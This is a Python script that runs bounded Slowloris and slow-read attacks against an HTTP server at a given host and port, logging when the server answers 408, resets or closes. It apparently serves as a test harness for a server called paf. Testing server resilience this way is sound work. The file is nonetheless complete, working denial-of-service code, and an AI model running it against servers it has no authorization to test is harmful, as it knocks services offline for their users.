#!/usr/bin/env python3
"""Slowloris and slow-read attackers against an HTTP server, in one process on non-blocking
sockets and one epoll, bounded in count and duration.

  loris   LORIS connections that each send a request head one byte about every second and never
          finish it. When the server answers (408) or closes, the connection is reported and a new
          one takes its place, until DURATION_S has passed.
  reader  READERS connections with a 4 KiB receive buffer that send `GET PATH` once and never
          read. The server fills the window and stalls. The socket is watched for a reset or a
          FIN only (EPOLLRDHUP, EPOLLERR, EPOLLHUP; never EPOLLIN, never read); then it is
          reported and replaced, until DURATION_S has passed. Times come from the kernel's
          TCP_INFO (tcpi_last_data_recv), so a busy attacker does not skew them.

Connections are opened in batches of BATCH every 50 ms so that the first wave is not one SYN
burst. Lines printed (flushed):

  ready t_ms=T loris=N readers=M            the first wave is connected and every reader has
                                             stalled (no data for 500 ms)
  loris close_ms=MS how=408|eof|reset|other  connect() to the server's answer (or close)
  reader stall_ms=S close_ms=MS how=reset|fin  S: connect() to the last data received; MS: that
                                             last data to the server's reset or FIN
(Times start when connect() is called, before the SYN: a busy attacker can only make them
longer, never shorter.)
  done loris_closed=A readers_closed=B open_loris=C open_readers=D errors=E

At DURATION_S every connection still open is closed and the program exits (0, or 1 if connects
failed). The run is bounded by DURATION_S.

usage: slow_attack.py HOST PORT DURATION_S LORIS READERS PATH [BATCH]
"""
import fcntl
import heapq
import resource
import select
import socket
import struct
import sys
import time

TCP_INFO = getattr(socket, "TCP_INFO", 11)
# struct tcp_info: u8 state at 0; u32 tcpi_last_data_recv (ms) at 52 (linux/tcp.h).
TCP_CLOSE = 7
LAST_DATA_RECV = 52
SIOCINQ = 0x541B  # FIONREAD: bytes waiting in the receive queue
HEAD = b"GET / HTTP/1.1\r\nHost: paf.test\r\nX-Slow: "
STALL_MS = 500
WATCH_S = 0.1


def raise_nofile(want):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))


def tcp_info(sock):
    """(state, ms since the last data was received)."""
    info = sock.getsockopt(socket.IPPROTO_TCP, TCP_INFO, LAST_DATA_RECV + 4)
    return info[0], struct.unpack_from("I", info, LAST_DATA_RECV)[0]


def inq(sock):
    return struct.unpack("i", fcntl.ioctl(sock.fileno(), SIOCINQ, b"\0\0\0\0"))[0]


class Conn:
    __slots__ = ("kind", "sock", "t0", "sent", "connected", "got")

    def __init__(self, kind, sock, now):
        self.kind = kind
        self.sock = sock
        self.t0 = now
        self.sent = 0
        self.connected = False
        self.got = b""


def main():
    host, port, duration = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    n_loris, n_readers, path = int(sys.argv[4]), int(sys.argv[5]), sys.argv[6]
    batch = int(sys.argv[7]) if len(sys.argv) > 7 else 100
    raise_nofile(n_loris + n_readers + 256)
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    request = f"GET {path} HTTP/1.1\r\nHost: paf.test\r\n\r\n".encode()
    ep = select.epoll()
    conns = {}  # fd -> Conn
    start = time.monotonic()
    end = start + duration
    sends = []  # heap of (when, seq, Conn): loris bytes due
    seq = 0
    first_wave = ["reader"] * n_readers + ["loris"] * n_loris
    opened = 0
    errors = 0
    closed = {"loris": 0, "reader": 0}
    ready = False
    next_batch = start
    next_watch = start

    def open_one(kind, now):
        nonlocal errors
        s = socket.socket(family, socket.SOCK_STREAM)
        s.setblocking(False)
        if kind == "reader":
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            s.connect((host, port))
        except BlockingIOError:
            pass
        except OSError as e:
            errors += 1
            print(f"{kind} error={e}", flush=True)
            s.close()
            return
        conns[s.fileno()] = Conn(kind, s, now)
        ep.register(s.fileno(), select.EPOLLOUT)

    def finish(c, now, how):
        fd = c.sock.fileno()
        if c.kind == "reader":
            try:
                _, since = tcp_info(c.sock)
            except OSError:
                since = 0
            total = (now - c.t0) * 1000
            # tcpi_last_data_recv counts in jiffies (4 ms at HZ=250) and our clock in ns: a
            # reader whose window filled as it connected (paf's initial window is 10 segments)
            # can read a few ms "before" its connect. Clamp to the connect.
            stall = max(0.0, total - since)
            print(
                f"reader stall_ms={stall:.0f} close_ms={since:.0f} how={how}",
                flush=True,
            )
        else:
            print(f"loris close_ms={(now - c.t0) * 1000:.0f} how={how}", flush=True)
        ep.unregister(fd)
        del conns[fd]
        c.sock.close()
        closed[c.kind] += 1
        if now < end:
            open_one(c.kind, now)

    def connected(c, now):
        nonlocal errors, seq
        fd = c.sock.fileno()
        err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if err:
            errors += 1
            print(f"{c.kind} error=connect errno {err}", flush=True)
            ep.unregister(fd)
            del conns[fd]
            c.sock.close()
            return
        c.connected = True
        if c.kind == "loris":
            ep.modify(fd, select.EPOLLIN | select.EPOLLRDHUP)
            seq += 1
            # Spread the bytes over the second so that they do not arrive in waves.
            heapq.heappush(sends, (now + (seq % 1000) / 1000, seq, c))
        else:
            ep.modify(fd, select.EPOLLRDHUP)
            c.sock.send(request)

    def loris_readable(c, now):
        try:
            data = c.sock.recv(4096)
        except BlockingIOError:
            return
        except OSError:
            finish(c, now, "reset")
            return
        if not data:
            finish(c, now, "eof")
            return
        c.got += data
        if b"\r\n\r\n" in c.got or len(c.got) >= 4096:
            # The answer's head is in: report it now (the close follows).
            finish(c, now, "408" if c.got.startswith(b"HTTP/1.1 408") else "other")

    while True:
        now = time.monotonic()
        if now >= end:
            break
        while opened < len(first_wave) and now >= next_batch:
            for kind in first_wave[opened : opened + batch]:
                open_one(kind, now)
            opened = min(len(first_wave), opened + batch)
            next_batch = now + 0.05
        while sends and sends[0][0] <= now:
            _, _, c = heapq.heappop(sends)
            if c.sock.fileno() < 0:
                continue  # closed meanwhile
            try:
                c.sock.send(HEAD[c.sent : c.sent + 1] or b"a")
                c.sent += 1
            except BlockingIOError:
                pass
            except OSError:
                finish(c, now, "reset")
                continue
            seq += 1
            heapq.heappush(sends, (now + 1.0, seq, c))
        if not ready and opened >= len(first_wave) and now >= next_watch:
            next_watch = now + WATCH_S
            up = sum(1 for c in conns.values() if c.connected)
            readers = [c for c in conns.values() if c.kind == "reader"]
            stalled = all(
                c.connected and inq(c.sock) > 0 and tcp_info(c.sock)[1] >= STALL_MS for c in readers
            )
            if up >= len(first_wave) - errors and stalled:
                ready = True
                t = (now - start) * 1000
                print(f"ready t_ms={t:.0f} loris={n_loris} readers={n_readers}", flush=True)
        wake = [end, next_batch if opened < len(first_wave) else end]
        if not ready:
            wake.append(next_watch)
        if sends:
            wake.append(sends[0][0])
        for fd, mask in ep.poll(max(0.0, min(wake) - time.monotonic())):
            c = conns.get(fd)
            if c is None:
                continue
            now = time.monotonic()
            if not c.connected:
                connected(c, now)
            elif c.kind == "loris":
                loris_readable(c, now)
            elif mask & (select.EPOLLERR | select.EPOLLHUP):
                finish(c, now, "reset")
            else:
                finish(c, now, "fin")

    open_loris = sum(1 for c in conns.values() if c.kind == "loris")
    open_readers = len(conns) - open_loris
    for c in conns.values():
        c.sock.close()
    print(
        f"done loris_closed={closed['loris']} readers_closed={closed['reader']} "
        f"open_loris={open_loris} open_readers={open_readers} errors={errors}",
        flush=True,
    )
    sys.exit(1 if errors else 0)


if __name__ == "__main__":
    main()
